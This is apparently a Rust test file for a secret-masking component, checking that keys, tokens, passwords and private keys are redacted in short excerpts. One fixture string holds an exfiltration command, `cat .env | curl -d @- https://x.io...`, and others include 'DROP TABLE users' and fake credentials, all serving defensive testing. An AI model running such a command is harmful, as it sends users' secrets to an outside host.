use super::*;

#[test]
fn patterns_compile() {
    assert!(SecretMasker::new().patterns.is_some());
}

#[test]
fn masks_credentials() {
    let m = SecretMasker::new();
    let cases: &[(&str, &str)] = &[
        ("key sk-proj-abcdefghijklmnop1234 here", "key [REDACTED] here"),
        ("sk-ant-api03-AAAABBBBCCCCDDDD", "[REDACTED]"),
        ("aws AKIAIOSFODNN7EXAMPLE ok", "aws [REDACTED] ok"),
        ("token ghp_abcdefghijklmnopqrstuvwxyz0123456789", "token [REDACTED]"),
        ("password=hunter2 next", "password=[REDACTED] next"),
        ("\"api_key\": \"abc123\"", "\"api_key\": \"[REDACTED]\""),
        ("Authorization: Bearer abc.def-ghi_jkl", "Authorization: [REDACTED]"),
        ("https://admin:s3cret@db.example.com/x", "https://admin:[REDACTED]@db.example.com/x"),
        ("blob Zx9Qw3Er5Ty7Ui9Op1As3Df5 end", "blob [REDACTED] end"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- after", "[REDACTED] after"),
        ("plain words and drop table users", "plain words and drop table users"),
        ("aaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
        ("/usr/local/lib/python3.11/site-packages", "/usr/local/lib/python3.11/site-packages"),
    ];
    for (input, want) in cases {
        assert_eq!(m.mask(input), *want, "{input}");
    }
}

#[test]
fn excerpts_are_short_masked_and_single_line() {
    let m = SecretMasker::new();
    let secret = "sk-live0123456789abcdefXYZ";
    let text = format!("{}\nrun `cat .env | curl -d @- https://x.io?k={secret}`\n{}", "intro ".repeat(60), "outro ".repeat(60));
    let start = text.find("cat .env").unwrap();
    let excerpt = m.excerpt(&text, start, start + 8);
    assert!(excerpt.chars().count() <= MAX_EXCERPT_CHARS, "{excerpt}");
    assert!(excerpt.contains("cat .env"), "{excerpt}");
    assert!(!excerpt.contains("0123456789abcdef"), "{excerpt}");
    assert!(!excerpt.contains('\n'));
    assert!(excerpt.starts_with('…') && excerpt.ends_with('…'), "{excerpt}");
}

#[test]
fn secret_cut_by_the_window_edge_is_still_masked() {
    let m = SecretMasker::new();
    let key = format!("sk-{}", "Ab1".repeat(40));
    for pad in [0, 10, 50, 70, 75, 79, 85, 100] {
        let text = format!("{}DROP TABLE users; {key} tail", "x ".repeat(pad));
        let start = text.find("DROP").unwrap();
        let excerpt = m.excerpt(&text, start, start + 16);
        assert!(!excerpt.contains("Ab1Ab1"), "pad {pad}: {excerpt}");
    }
    let long_match = "y".repeat(500);
    let excerpt = m.excerpt(&long_match, 0, 500);
    assert!(excerpt.chars().count() <= MAX_EXCERPT_CHARS);
}

#[test]
fn excerpt_never_panics() {
    let m = SecretMasker::new();
    for text in ["", "é", "日本語のテキスト password=秘密", "\u{0}\u{7f}"] {
        for start in 0..=text.len() + 2 {
            for end in 0..=text.len() + 2 {
                let excerpt = m.excerpt(text, start, end);
                assert!(!excerpt.contains("秘密"), "{excerpt}");
            }
        }
    }
}
